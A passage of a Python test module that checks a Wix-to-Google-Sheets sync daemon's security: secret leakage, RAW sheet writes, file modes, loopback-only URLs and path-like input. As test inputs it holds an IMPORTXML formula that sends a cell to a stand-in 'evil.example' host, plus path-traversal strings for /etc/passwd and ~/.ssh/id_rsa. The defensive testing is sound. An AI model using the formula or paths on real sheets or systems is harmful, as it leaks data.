"""Security (issue 6), proved end to end against the whole product.

* **No secret escapes.** A full run — several cycles, valid and invalid rows, injected Wix and
  Google faults, errors raised to the caller, and the ``plan`` / ``sync --once`` / ``status``
  / ``doctor`` commands over loopback — produces log lines, exception texts, CLI output,
  files and sheet cells. None of it holds the Wix API key, an OAuth access token, the
  service account's private key (or any 40-character piece of it), its ``private_key_id``,
  or ``-----BEGIN``.
* **RAW only.** Every value the daemon writes to the sheet is sent RAW and stored as text,
  even when it starts with ``= + - @``; what volunteers typed (formulas included) stays theirs.
* **0600.** The state file, its WAL/SHM and lock files, and the credentials the product writes
  (``sandbox.json`` holds the local Wix's keys) are 0600 even under umask 000; the state
  folder is not writable by others.
* **Loopback only.** The sandbox, the fake Sheets API and the hidden URLs of the config and
  the command line refuse anything but loopback (plain ``http``); the key never travels in
  clear text to another host.
* **Paths.** Sheet cells and config values that look like paths stay text: a cycle opens no
  file outside the run's folder but Python's own (imports, time zones) — not even
  ``~/.netrc``; the only paths are the four the config names, resolved from the config file's
  folder, and none of them may be a file wixsync keeps beside the state.

``sandbox.json`` (sandbox mode only) is the local Wix's own database and holds its keys by
design; it is proved 0600 below, and the grep runs against a real (non-sandbox) Wix setup.
"""

from __future__ import annotations

import copy
import json
import logging
import os
import re
import secrets
import stat
import sys
import traceback
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import asdict, dataclass, field, replace
from datetime import datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any, ClassVar
from zoneinfo import ZoneInfo

import google.auth.exceptions
import gspread
import pytest
from click.testing import CliRunner, Result
from google.auth import _exponential_backoff

from sync.cli import main
from sync.config import ConfigError, load_config
from sync.runtime import open_runtime, settings_from_config
from sync.sandbox import Fault, LoopbackServer, build_sandbox
from sync.sandbox.seed import read_seed
from sync.sheet.columns import DEFAULT_COLUMNS
from sync.sheet.localfile import LocalSheet
from sync.wix import KeyRejected
from tests.conftest import NOW
from tests.fakes.sheets import FakeSheets, FakeSheetsServer, build_fake_sheets
from tests.fakes.sheets import Fault as SheetsFault
from tests.fakes.sheets import fake_service_account_info as service_account
from tests.proof.world import HEADER, TAB, World, day_label, line, undated

WRONG_SITE = "0badc0de-0000-4000-8000-000000000000"
FORMULA = '=IMPORTXML("http://evil.example/steal?c="&A1,"//a")'
PATH_LIKE = [
    "../../etc/passwd",
    "/etc/shadow",
    "~/.ssh/id_rsa",
    "file:///etc/passwd",
    "\\\\server\\share",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "C:\\Windows\\System32",
]
posix_only = pytest.mark.skipif(os.name != "posix", reason="file modes and umask are POSIX")


# == what must never appear, and where we look ================================================
def fresh_key() -> str:
    """A Wix-looking API key no file in the repository holds, so any hit is a leak."""
    return "IST." + secrets.token_urlsafe(96)


def seed_with_key(key: str) -> dict[str, Any]:
    """The default club, its ``sync`` key replaced by ``key``."""
    seed = copy.deepcopy(read_seed(None))
    for entry in seed["apiKeys"]:
        if entry["name"] == "sync":
            entry["key"] = key
    return seed


_BASE64_RUN = re.compile(r"[A-Za-z0-9+/=]{40,}")


@dataclass
class Secrets:
    """The needles: whole secrets, plus every 40-character slice of the private key's body."""

    whole: dict[str, str] = field(default_factory=dict)
    key_slices: set[str] = field(default_factory=set)

    def add(self, name: str, value: str) -> None:
        assert len(value) >= 16, f"{name} is too short to be a meaningful needle"
        self.whole[name] = value

    def add_service_account(self, name: str, info: dict[str, str]) -> None:
        self.add(f"{name} private_key_id", info["private_key_id"])
        pem = info["private_key"]
        body = "".join(ln for ln in pem.splitlines() if ln and not ln.startswith("-----"))
        self.add(f"{name} private key body", body)
        self.key_slices |= {body[i : i + 40] for i in range(len(body) - 39)}

    def found_in(self, text: str) -> list[str]:
        hits = [name for name, value in self.whole.items() if value in text]
        if "-----BEGIN" in text:
            hits.append("-----BEGIN")
        # a PEM body may be split by newlines (or JSON's \n) where it leaks
        flat = text.replace("\\n", "").replace("\n", "").replace("\r", "")
        for run in _BASE64_RUN.findall(flat):
            if any(run[i : i + 40] in self.key_slices for i in range(len(run) - 39)):
                hits.append("a 40-character slice of the private key")
                break
        return hits


@dataclass
class Evidence:
    """Everything a run produced that a person, a log shipper or a backup could see."""

    items: list[tuple[str, str]] = field(default_factory=list)
    exceptions: int = 0
    files: set[Path] = field(default_factory=set)

    def add(self, where: str, text: str) -> None:
        self.items.append((where, text))

    def exception(self, where: str, exc: BaseException) -> None:
        """``str``, ``repr`` and the formatted traceback, down the whole chain (a suppressed
        ``__context__`` too: a careless ``raise ... from exc`` would show it)."""
        self.exceptions += 1
        seen: set[int] = set()
        todo: list[BaseException | None] = [exc]
        while todo:
            current = todo.pop()
            if current is None or id(current) in seen:
                continue
            seen.add(id(current))
            self.add(f"{where}: str", str(current))
            self.add(f"{where}: repr", repr(current))
            self.add(f"{where}: args", repr(current.args))
            todo += [current.__cause__, current.__context__]
        self.add(f"{where}: traceback", "".join(traceback.format_exception(exc)))

    def raised(self, where: str, call: Callable[[], object]) -> BaseException:
        try:
            call()
        except Exception as exc:
            self.exception(where, exc)
            return exc
        raise AssertionError(f"{where}: expected an exception")

    def cli(self, where: str, result: Result) -> None:
        self.add(f"{where}: output", result.output)
        self.add(f"{where}: stderr", result.stderr)
        if result.exc_info and not isinstance(result.exception, SystemExit):
            self.exception(where, result.exc_info[1])

    def folder(self, folder: Path, skip: set[Path]) -> None:
        """The bytes of every file under ``folder`` but the key files themselves."""
        for path in sorted(folder.rglob("*")):
            if path.is_file() and path not in skip:
                self.files.add(path)
                self.add(f"file {path.relative_to(folder)}", path.read_bytes().decode("latin-1"))

    def sheet(self, where: str, fake: FakeSheets, key: str) -> None:
        self.add(f"{where}: sheet", json.dumps(fake.describe(key), default=str))

    def requests_sent(self, where: str, log: list[Any]) -> None:
        """What the daemon sent each service (bodies, paths, queries; never headers)."""
        self.add(f"{where}: request log", json.dumps([asdict(e) for e in log], default=str))


class AllLogs(logging.Handler):
    """Every record any logger hands the root logger at DEBUG, as a handler formats it, plus
    the record's arguments and extra attributes (what a structured/JSON log shipper keeps)."""

    PLAIN: ClassVar[set[str]] = set(vars(logging.LogRecord("", 0, "", 0, "", (), None)))

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []
        self.names: set[str] = set()

    def emit(self, record: logging.LogRecord) -> None:
        self.names.add(record.name)
        extras = {k: v for k, v in vars(record).items() if k not in self.PLAIN}
        self.lines.append(f"{self.format(record)} | args={record.args!r} | {extras!r}")

    @contextmanager
    def capture(self) -> Iterator[AllLogs]:
        root = logging.getLogger()
        level = root.level
        root.addHandler(self)
        root.setLevel(logging.DEBUG)
        try:
            yield self
        finally:
            root.removeHandler(self)
            root.setLevel(level)


# == 1. no secret in anything a full run produces =============================================
def today_label() -> str:
    now = datetime.now(ZoneInfo("America/Denver"))
    return f"{now.month}/{now.day}"


def club_rows(day: str | None = None) -> list[list[str]]:
    """Valid rows (plan, cash, unpaid) and rows a volunteer got wrong."""
    return [
        line("Ana Lee", "ana.lee@example.org", "plan", "10 Swim Pass", day=day),
        line("Ivan Novak", "ivan.novak@example.org", "cash", day=day),
        line("Jade Kim", "jade.kim@example.org", "unpaid", day=day),
        line("Maya Okafor", "maya.okafor@example.org", "cash", day=day),
        line("Amir Said", "amir.said@@example.org", "cash", day=day),  # bad email
        line("Formula Person", "formula@example.org", "cash", day=day),  # Name: a formula, below
        line("+1-2", "plus@example.org", "cash", day=day),
        line("@SUM(A1)", "at@example.org", "-cash", day=day),
        line("Authorization: Bearer ya29.not-a-token", "auth@example.org", "Bearer", day=day),
        line("Dora Mills", "dora.mills@example.org", "cash", "Authorization", day=day),
    ]


def run_in_process(world: World, evidence: Evidence, revoked_key: str) -> None:
    """Cycles through the production wiring, with faults on both sides and Wix errors."""
    human = world.human()
    human.set_cell("D7", FORMULA)  # a volunteer types a formula into Name
    human.set_cell("F3", "=SUM(1,2)")  # and one into Payment
    # cycle 1: Wix 5xx, drops, hangs, 429s; Google 5xx and quota
    for fault in (
        Fault(route="*", kind="error", times=3),
        Fault(route="cart.place_order", kind="drop", times=1),
        Fault(route="bookings.bulk_create", kind="hang", seconds=5.0, times=1),
        Fault(route="contacts.query", kind="rate_limit", times=1),
        # an outage that outlasts the retries (5 attempts): the phase fails, the flows log it
        Fault(route="extended_bookings.query", kind="error", status=503, times=5),
    ):
        world.sandbox.faults.add(fault)
    world.sheets.faults.add(SheetsFault("values.batchUpdate", "error", times=1))
    world.sheets.faults.add(SheetsFault("reads", "quota", times=1))
    world.cycle()
    world.sandbox.faults.clear()
    # cycle 2: the OAuth token is revoked (401, google-auth fetches another), a row changes;
    # the files are read while the state is open, so the WAL and SHM files are there too
    world.sheets.tokens.revoke_all()
    human.set_cell("F4", "cash")
    world.now += 3600  # past the back-off of the rows whose outcome was unknown
    with world.open() as runtime:
        runtime.engine.run_cycle()
        evidence.folder(world.folder, skip={world.credentials})
    # cycle 3: Google keeps failing past the retries: the error reaches the caller
    world.sheets.faults.add(SheetsFault("values.get", "error", times=10))
    error = evidence.raised("cycle with Google down", world.cycle)
    assert isinstance(error, gspread.exceptions.APIError)
    world.sheets.faults.clear()
    # cycle 4: the token is revoked and the token endpoint fails: google-auth's RefreshError
    world.sheets.tokens.revoke_all()
    world.sheets.faults.add(SheetsFault("token", "error", times=3))
    error = evidence.raised("cycle without a token", world.cycle)
    assert isinstance(error, google.auth.exceptions.RefreshError)
    world.sheets.faults.clear()
    # a wrong site id: the cycle stops with KeyRejected (the site's refusal, never a row's
    # error), and so does a call
    human.set_row(12, line("Kofi Mensah", "kofi.mensah@example.org", "cash"))
    with open_runtime(replace(world.settings(), site_id=WRONG_SITE)) as runtime:
        error = evidence.raised("cycle with a wrong site id", runtime.engine.run_cycle)
        assert isinstance(error, KeyRejected)
        error = evidence.raised(
            "wrong site id", lambda: runtime.client.query_services({"type": "CLASS"})
        )
    assert isinstance(error, KeyRejected)
    assert error.status == 403
    # a revoked key: the same, with 401
    with open_runtime(replace(world.settings(), api_key=lambda: revoked_key)) as runtime:
        error = evidence.raised("cycle with a revoked key", runtime.engine.run_cycle)
        assert isinstance(error, KeyRejected)
        error = evidence.raised("revoked key", lambda: runtime.client.query_contacts({}))
    assert isinstance(error, KeyRejected)
    assert error.status == 401


def write_google_config(
    folder: Path, google: FakeSheetsServer, sheet_key: str, wix_url: str, site_id: str
) -> Path:
    info = service_account(google.token_uri)
    credentials = folder / "service-account.json"
    credentials.write_text(json.dumps(info))
    credentials.chmod(0o600)
    config = folder / "wixsync.toml"
    config.write_text(
        f'[sheet]\ngoogle = "{sheet_key}"\ncredentials = "service-account.json"\n'
        f'api_url = "{google.url}"\n\n'
        f'[wix]\nsite_id = "{site_id}"\nbase_url = "{wix_url}"\ntime_zone = "America/Denver"\n\n'
        '[daemon]\nstate = "state/state.sqlite3"\n'
    )
    return config


def run_commands(
    folder: Path, evidence: Evidence, needles: Secrets, wix_key: str, revoked_key: str
) -> tuple[FakeSheets, str]:
    """``plan``, ``sync --once``, ``status``, ``doctor`` (also with a revoked key) over
    loopback: the key comes from the environment, the Google key from its 0600 file."""
    box = build_sandbox(seed_with_key(wix_key), rate_limit=None)
    fake = build_fake_sheets(reads_per_minute=None, writes_per_minute=None)
    key = fake.create_spreadsheet({TAB: [HEADER, *club_rows(today_label())]})
    with LoopbackServer(box) as wix, FakeSheetsServer(fake) as google:
        config = write_google_config(folder, google, key, wix.url, box.site.site_id)
        key_file = folder / "service-account.json"
        needles.add_service_account("cli", json.loads(key_file.read_text()))
        state = str(folder / "state" / "state.sqlite3")
        doctor = ["doctor", "--config", str(config), "--base-url", wix.url]
        doctor += ["--site-id", box.site.site_id]
        doctor += ["--class", "Open Water Swim", "--class", "Water Polo", "--state", state]
        runs: list[tuple[str, list[str], str, int]] = [
            ("plan", ["plan", "--config", str(config)], wix_key, 0),
            # 3: the club's sheet keeps rows that wait for a person (their Error)
            ("sync", ["sync", "--once", "--config", str(config)], wix_key, 3),
            ("sync again", ["sync", "--once", "--config", str(config)], wix_key, 3),
            ("status", ["status", "--config", str(config)], wix_key, 0),
            (  # 1: there is no Water Polo class
                "doctor",
                [*doctor, "--write-test", "Open Water Swim", "ana.lee@example.org"],
                wix_key,
                1,
            ),
            # 69: Wix refuses the key at doctor's first call: nothing checked, remembered
            ("doctor, revoked key", doctor, revoked_key, 69),
            # 69: Wix refuses the key, which stops the cycle (one line, not a row's error):
            # the site cannot be synced (sync.exit_codes.UNREACHABLE)
            ("sync, revoked key", ["sync", "--once", "--config", str(config)], revoked_key, 69),
        ]
        for name, args, api_key, expected in runs:
            if name == "sync, revoked key":
                fake.human(key, TAB).set_row(13, line("Lena Berg", "lena.berg@example.org"))
            result = CliRunner().invoke(main, args, env={"WIX_API_KEY": api_key, "COLUMNS": "200"})
            evidence.cli(name, result)
            assert result.exit_code == expected, (name, result.output)
        evidence.requests_sent("cli wix", box.log)
        evidence.requests_sent("cli google", fake.log)
    return fake, key


def test_no_key_token_or_private_key_in_logs_errors_output_files_or_cells(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # google-auth waits about a second between token attempts; not here
    monkeypatch.setattr(_exponential_backoff, "time", SimpleNamespace(sleep=lambda _s: None))
    wix_key, revoked_key, cli_key = fresh_key(), fresh_key(), fresh_key()
    needles = Secrets()
    for name, value in (("wix key", wix_key), ("revoked key", revoked_key), ("cli key", cli_key)):
        needles.add(name, value)
    evidence = Evidence()
    records = AllLogs()
    world = World(tmp_path / "world", club_rows(), seed=seed_with_key(wix_key))
    needles.add_service_account("world", json.loads(world.credentials.read_text()))
    cli_folder = tmp_path / "cli"
    cli_folder.mkdir()
    with records.capture():
        run_in_process(world, evidence, revoked_key)
        cli_fake, cli_sheet = run_commands(cli_folder, evidence, needles, cli_key, revoked_key)
    tokens = [t.value for fake in (world.sheets, cli_fake) for t in fake.tokens.issued]
    for index, token in enumerate(tokens):
        needles.add(f"OAuth access token {index + 1}", token)
    skip = {world.credentials, cli_folder / "service-account.json"}
    evidence.folder(tmp_path, skip=skip)
    evidence.sheet("world", world.sheets, world.key)
    evidence.sheet("cli", cli_fake, cli_sheet)
    evidence.requests_sent("world wix", world.sandbox.log)
    evidence.requests_sent("world google", world.sheets.log)
    for index, text in enumerate(records.lines):
        evidence.add(f"log line {index + 1}", text)

    leaks = [(where, hits) for where, text in evidence.items if (hits := needles.found_in(text))]
    assert leaks == []

    # ... and the haystack is real: every source was there and full
    assert len(tokens) >= 3, "the revoked token should have made google-auth fetch another"
    assert {"wixsync.wix", "wixsync.flows"} <= records.names
    assert any("retrying" in ln for ln in records.lines)
    assert any("phase" in ln and "failed" in ln for ln in records.lines)
    assert evidence.exceptions >= 4
    names = {p.name for p in evidence.files}
    assert {"state.sqlite3", "state.sqlite3-wal", "state.sqlite3-shm"} <= names
    assert "state.sqlite3.lock" in names
    assert all(p.stat().st_size > 0 for p in evidence.files if p.name == "state.sqlite3")
    outputs = "\n".join(text for where, text in evidence.items if where.endswith(": output"))
    for expected in ("Booked", "wixsync doctor", "Recent runs", "Plan:", "refused the API key"):
        assert expected in outputs
    cells = json.dumps(world.records(), ensure_ascii=False)
    assert "Booked · Mon 15 Jun 06:30 · 10 Swim Pass" in cells
    assert "is a formula" in cells
    # a wrong site id or a refused key stops the cycle: the site's refusal, never a row's error
    assert "API key" not in cells
    # the secrets were in reach the whole time: the key file holds the private key
    assert needles.found_in(world.credentials.read_text())


def test_the_secret_finder_sees_a_piece_of_the_key_split_across_lines() -> None:
    """The grep above is only as good as its needles: a 40-character piece of the private
    key's body is found even when a PEM line break or JSON's ``\\n`` falls inside it."""
    needles = Secrets()
    info = service_account()
    needles.add_service_account("test", info)
    body = info["private_key"].splitlines()[1:-2]
    piece = body[0][40:] + "\\n" + body[1][:20]  # 24 + 20 characters across a break
    assert needles.found_in(f"log: {piece} end") == ["a 40-character slice of the private key"]
    assert needles.found_in(body[0][:39]) == []
    assert needles.found_in(info["private_key_id"]) == ["test private_key_id"]
    assert needles.found_in("-----BEGIN PRIVATE KEY-----") == ["-----BEGIN"]


# == 2. everything the daemon writes to the sheet is RAW text =================================
def formula_headers() -> tuple[Any, ...]:
    """The owner may name the daemon's columns anything, even ``=Error``: the daemon then
    writes header cells that start with ``= + - @`` itself."""
    rename = {"error": "=Error", "status": "+Status", "booking_id": "-Booking ID"}
    rename["order_id"] = "@Order ID"
    return tuple(replace(c, header=rename.get(c.key, c.header)) for c in DEFAULT_COLUMNS)


def test_every_value_the_daemon_writes_is_raw_text_and_volunteers_formulas_stay(
    tmp_path: Path,
) -> None:
    """Two cycles with formulas typed by volunteers and daemon headers named ``=Error`` and
    the like: every write is RAW, every daemon cell is text (an Error quoting a formula, the
    headers), and every volunteer cell is exactly as typed."""
    world = World(tmp_path, club_rows())
    human = world.human()
    human.set_cell("D7", FORMULA)  # typed, so stored as a formula
    human.set_cell("F3", "=SUM(1,2)")
    volunteer_columns = "ABCDEFGH"  # A-H: the volunteers'; the daemon's columns follow
    cells = world.sheets.cells(world.key, TAB)
    before = {a1: v for a1, v in cells.items() if a1[0] in volunteer_columns}
    assert before["D7"] == {"formulaValue": FORMULA}
    settings = replace(world.settings(), columns=formula_headers())
    for _ in range(2):
        with open_runtime(settings) as runtime:
            runtime.engine.run_cycle()
        human.set_cell("F4", "cash")  # a volunteer edits between cycles
        before["F4"] = {"stringValue": "cash"}

    assert world.sheets.counts().value_input_options.keys() == {"RAW"}
    cells = world.sheets.cells(world.key, TAB)
    assert {a1: v for a1, v in cells.items() if a1[0] in volunteer_columns} == before
    daemon = {a1: v for a1, v in cells.items() if a1[0] not in volunteer_columns}
    assert not [a1 for a1, v in daemon.items() if "formulaValue" in v]
    texts = {a1: v["stringValue"] for a1, v in daemon.items() if "stringValue" in v}
    starting = {a1: t for a1, t in texts.items() if t.startswith(("=", "+", "-", "@"))}
    assert sorted(starting.values()) == ["+Status", "-Booking ID", "=Error", "@Order ID"]
    quoting = [t for t in texts.values() if "=IMPORTXML(" in t]
    assert quoting
    assert quoting[0].startswith("Name '=IMPORTXML(")
    assert any("'=SUM(1,2)' is a formula" in t for t in texts.values())
    assert any(t.startswith("Booked") for t in texts.values())


# == 3. 0600 files, a private state folder ====================================================
@contextmanager
def umask(mask: int) -> Iterator[None]:
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def state_files(state: Path) -> list[Path]:
    """The state file and the files SQLite and the lock keep beside it."""
    names = [state.name + s for s in ("", "-wal", "-shm", "-journal", ".lock")]
    return [state.with_name(n) for n in names if state.with_name(n).exists()]


@posix_only
def test_state_files_are_0600_and_the_state_folder_private_under_umask_000(
    tmp_path: Path,
) -> None:
    from sync.lock import state_lock

    with umask(0o000):
        world = World(tmp_path, club_rows())
        with world.open() as runtime, state_lock(world.state_path):
            runtime.engine.run_cycle()
            open_files = state_files(world.state_path)
            modes = {p.name: mode(p) for p in open_files}
        after = {p.name: mode(p) for p in state_files(world.state_path)}
        folder = mode(world.state_path.parent)
    names = {"state.sqlite3", "state.sqlite3-wal", "state.sqlite3-shm", "state.sqlite3.lock"}
    assert set(modes) == names, "the WAL, SHM and lock files exist while a cycle runs"
    assert modes == dict.fromkeys(names, 0o600)
    assert set(after.values()) == {0o600}
    assert folder & 0o077 == 0, f"state folder is mode {folder:o}"


@posix_only
def test_the_demo_keeps_the_local_wix_keys_and_its_state_0600(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``wixsync demo`` writes the only key material the product ever writes:
    ``sandbox.json``, the local Wix's database, holds its API keys."""
    monkeypatch.chdir(tmp_path)
    with umask(0o000):
        demo = CliRunner().invoke(main, ["demo"], env={"COLUMNS": "200"})
        config = tmp_path / "wixsync-demo" / "wixsync.toml"
        again = CliRunner().invoke(main, ["sync", "--once", "--config", str(config)])
    assert demo.exit_code == 0, demo.output
    assert again.exit_code == 3, again.output  # the demo's 7 rows wait for a person
    state = tmp_path / "wixsync-demo" / "state"
    assert "IST." in (state / "sandbox.json").read_text(), "sandbox.json holds keys"
    files = [*state_files(state / "state.sqlite3"), state / "sandbox.json"]
    assert {p.name: mode(p) for p in files} == {
        "state.sqlite3": 0o600,
        "state.sqlite3.lock": 0o600,
        "sandbox.json": 0o600,
    }
    assert mode(state) & 0o077 == 0
    assert mode(tmp_path / "wixsync-demo" / "attendance.xlsx") == 0o600
    assert not [p.name for p in state.iterdir() if p.name.startswith(".")], "no temporary file"


def test_init_writes_no_file_and_leaves_the_key_file_as_it_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``wixsync init`` prepares the Google Sheet only: nothing lands on disk."""
    fake = build_fake_sheets(reads_per_minute=None, writes_per_minute=None)
    key = fake.create_spreadsheet({TAB: [HEADER, *club_rows()]})
    credentials = tmp_path / "sa.json"
    monkeypatch.chdir(tmp_path)
    with FakeSheetsServer(fake) as google:
        credentials.write_text(json.dumps(service_account(google.token_uri)))
        credentials.chmod(0o600)
        before = {p: (p.stat().st_mtime_ns, mode(p)) for p in tmp_path.rglob("*")}
        args = ["init", "--sheet", key, "--credentials", str(credentials)]
        result = CliRunner().invoke(main, [*args, "--sheets-api-url", google.url])
    assert result.exit_code == 0, result.output
    assert "ready for volunteers" in result.output
    assert {p: (p.stat().st_mtime_ns, mode(p)) for p in tmp_path.rglob("*")} == before


# == 4. loopback only =========================================================================
# Already proved elsewhere, not repeated here: LoopbackServer and assert_loopback refuse
# 0.0.0.0 and 192.0.2.10 (tests/simulators/sandbox/test_edge.py), ``wixsync sandbox --host
# 0.0.0.0`` fails saying "loopback" (tests/test_cli.py), FakeSheetsServer and
# LoopbackSheetsAdapter refuse non-loopback hosts (tests/simulators/sheets_fake/
# test_transport.py), and the config refuses an off-loopback ``[sheet] api_url`` or a
# plain-http ``[wix] base_url`` (tests/test_config.py).
# Below: the disguises a URL can wear, the other ways in, and that nothing is sent.
DISGUISED = [
    "http://127.0.0.1@evil.example:8765",  # userinfo: the host is evil.example
    "http://evil.example#@127.0.0.1",  # the fragment hides nothing from urlsplit
    "http://[::ffff:10.0.0.8]:8765",  # IPv4-mapped, not loopback
    "http://0.0.0.0:8765",
    "http://localhost.evil.example:8765",
    "http://127.0.0.1.nip.io:8765",  # a name that resolves to loopback is still a name
    "file:///etc/passwd",
]
GOOGLE_CONFIG = """\
[sheet]
google = "1Xa9UoRqmVb3TnK7pLwZcE5dYhG2sJf8Q0iMvB4tNwA"
credentials = "service-account.json"
{sheet}
[wix]
site_id = "3f2a9c1e-7b4d-4e8a-9f10-2c6b5d8e7a01"
time_zone = "America/Denver"
{wix}
"""


@pytest.mark.parametrize("url", DISGUISED)
def test_config_urls_in_disguise_are_refused(tmp_path: Path, url: str) -> None:
    path = tmp_path / "wixsync.toml"
    for sheet, wix, key in (
        (f'api_url = "{url}"', "", "[sheet] api_url"),
        ("", f'base_url = "{url}"', "[wix] base_url"),
    ):
        path.write_text(GOOGLE_CONFIG.format(sheet=sheet, wix=wix))
        with pytest.raises(ConfigError) as refused:
            load_config(path, check_files=False)
        assert str(refused.value).startswith(f"{path}: {key} = ")
        assert "loopback" in str(refused.value) or "https://" in str(refused.value)


@pytest.fixture
def nothing_sent(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every HTTP request any requests session tries to send."""
    import requests

    sent: list[str] = []
    real = requests.Session.send

    def send(session: requests.Session, request: requests.PreparedRequest, **kw: Any) -> Any:
        sent.append(str(request.url))
        return real(session, request, **kw)

    monkeypatch.setattr(requests.Session, "send", send)
    return sent


@pytest.mark.parametrize("url", ["http://192.0.2.10:8765", "http://127.0.0.1@evil.example"])
def test_doctor_will_not_send_the_key_in_clear_text_off_loopback(
    tmp_path: Path, url: str, nothing_sent: list[str]
) -> None:
    """``--base-url`` follows the config's rule: https, or plain http to loopback only."""
    state = tmp_path / "state.sqlite3"
    args = ["doctor", "--base-url", url, "--site-id", WRONG_SITE, "--state", str(state)]
    result = CliRunner().invoke(main, args, env={"WIX_API_KEY": fresh_key()})
    assert result.exit_code == 1
    assert f"--base-url {url}: must start with https://" in result.output
    assert nothing_sent == []
    assert not state.exists()


@pytest.mark.parametrize("host", ["::", "192.0.2.10", "8.8.8.8"])
def test_the_sandbox_command_binds_loopback_only(host: str) -> None:
    result = CliRunner().invoke(main, ["sandbox", "--host", host, "--port", "0"])
    assert result.exit_code == 1
    assert "loopback" in result.output


def test_init_sends_nothing_to_a_fake_sheets_url_off_loopback(
    tmp_path: Path, nothing_sent: list[str]
) -> None:
    credentials = tmp_path / "sa.json"
    credentials.write_text(json.dumps(service_account()))
    credentials.chmod(0o600)
    args = ["init", "--sheet", "abc", "--credentials", str(credentials)]
    result = CliRunner().invoke(main, [*args, "--sheets-api-url", "http://192.0.2.10:8080"])
    assert result.exit_code == 78  # two lines (sync.failures), not a traceback
    assert "loopback addresses only" in result.output
    assert nothing_sent == []


# == 5. no file outside the configured paths ==================================================
class FileAudit:
    """What the process opens, lists, creates, renames or deletes, from Python's audit
    events (``open`` covers ``open()``, ``os.open`` and imports; SQLite's own WAL and SHM
    files are opened in C, after ``sqlite3.connect`` names the database).

    An audit hook cannot be removed: one is installed for the whole session and records only
    inside :meth:`recording`."""

    WRITE_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND
    OPENS: ClassVar[frozenset[str]] = frozenset({"open", "sqlite3.connect"})
    LISTS: ClassVar[frozenset[str]] = frozenset({"os.listdir", "os.scandir"})
    CHANGES: ClassVar[frozenset[str]] = frozenset(
        {"os.mkdir", "os.rmdir", "os.remove", "os.rename", "os.chmod", "os.chown", "os.utime"}
        | {"os.truncate", "os.symlink", "os.link", "tempfile.mkstemp", "tempfile.mkdtemp"}
    )
    WATCHED: ClassVar[frozenset[str]] = OPENS | LISTS | CHANGES
    _installed: ClassVar[FileAudit | None] = None

    def __init__(self) -> None:
        self.events: list[tuple[str, tuple[Any, ...]]] | None = None

    @classmethod
    def get(cls) -> FileAudit:
        if cls._installed is None:
            cls._installed = cls()
            sys.addaudithook(cls._installed._hook)
        return cls._installed

    def _hook(self, event: str, args: tuple[Any, ...]) -> None:
        events = self.events
        if events is None:
            return
        if event in self.WATCHED or event.startswith("shutil."):
            events.append((event, args))

    @contextmanager
    def recording(self) -> Iterator[list[tuple[str, tuple[Any, ...]]]]:
        self.events = []
        try:
            yield self.events
        finally:
            self.events = None

    @staticmethod
    def sqlite_file(database: Any) -> Any:
        """The file a ``sqlite3.connect`` names: a URI (``file:/a/b.sqlite3?mode=rw``, which
        ``sync.state.db`` passes with ``uri=True``) names the file in its path."""
        if isinstance(database, bytes):
            database = os.fsdecode(database)
        if isinstance(database, str) and database.startswith("file:"):
            from urllib.parse import unquote, urlsplit

            return unquote(urlsplit(database).path)
        return database

    @classmethod
    def touched(cls, events: list[tuple[str, tuple[Any, ...]]]) -> tuple[set[Path], set[Path]]:
        """(written, read): absolute paths; file descriptors are left out."""
        written: set[Path] = set()
        read: set[Path] = set()

        def path(value: Any) -> Path | None:
            if isinstance(value, str | bytes | os.PathLike):
                return Path(os.path.abspath(os.fsdecode(value)))
            return None

        for event, args in events:
            if event == "open":
                name, how, flags = args
                writing = bool(flags & cls.WRITE_FLAGS) or any(c in str(how) for c in "wax+")
                targets, into = [path(name)], written if writing else read
            elif event == "sqlite3.connect":
                targets, into = [path(cls.sqlite_file(args[0]))], written
            elif event in cls.LISTS:  # listdir() and scandir() alone list "."
                targets, into = [path(args[0] if args and args[0] is not None else ".")], read
            else:  # paths among the arguments (modes, fds and dir_fds are numbers or None)
                targets, into = [path(a) for a in args], written
            into |= {t for t in targets if t is not None}
        return written, read


def python_roots() -> set[Path]:
    """Where an import or the time-zone database may be read from."""
    import sysconfig
    import zoneinfo

    roots = {sys.prefix, sys.base_prefix, sys.exec_prefix, *sysconfig.get_paths().values()}
    roots |= {p for p in sys.path if p} | set(zoneinfo.TZPATH)
    resolved = {Path(r).resolve() for r in roots}
    assert Path("/") not in resolved, "an import root of / would allow everything"
    return resolved


def inside(path: Path, roots: set[Path]) -> bool:
    resolved = path.resolve()
    return any(resolved == r or r in resolved.parents for r in roots)


def assert_stays_home(events: list[tuple[str, tuple[Any, ...]]], home: Path) -> None:
    """Writes only under ``home``; reads only there or in Python's own folders."""
    written, read = FileAudit.touched(events)
    assert written, "nothing written: the audit saw nothing"
    assert [p for p in written if not inside(p, {home.resolve()})] == []
    outside = [p for p in read if not inside(p, {home.resolve(), *python_roots()})]
    assert outside == []
    for p in written | read:  # and, in so many words:
        text = str(p)
        assert not text.startswith(("/etc/passwd", "/etc/shadow")), text
        assert not any(word in text for word in ("id_rsa", "passwd", "shadow", "Windows")), text


def path_like_rows() -> list[list[str]]:
    """Path- and URL-looking text in every volunteer cell, one column at a time."""
    members = ["ana.lee", "ben.ortiz", "cara.nguyen", "dan.fischer", "eve.martin", "finn.walsh"]
    rows = []
    for index, text in enumerate(PATH_LIKE):
        email = f"path{index}@example.org"
        member = f"{members[index % len(members)]}@example.org"
        day = day_label(NOW + timedelta(days=index // len(members)))  # one plan row a session
        rows += [
            line(text, email, "cash"),  # a name: booked under it
            line("Pat Path", email, "cash", class_name=text),  # no such class
            line("Pat Path", text, "cash"),  # not an email
            line("Pat Path", email, text),  # not a payment word
            line("Plan Holder", member, "plan", text, day=day),  # no such plan
            [text, text, "Open Water Swim", "Pat Path", email, "cash", "", text],  # date, time…
        ]
    return rows


def test_path_like_cells_open_no_file_outside_the_run_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every volunteer cell, and the tab's title, written as a path or a file URL: the cycle
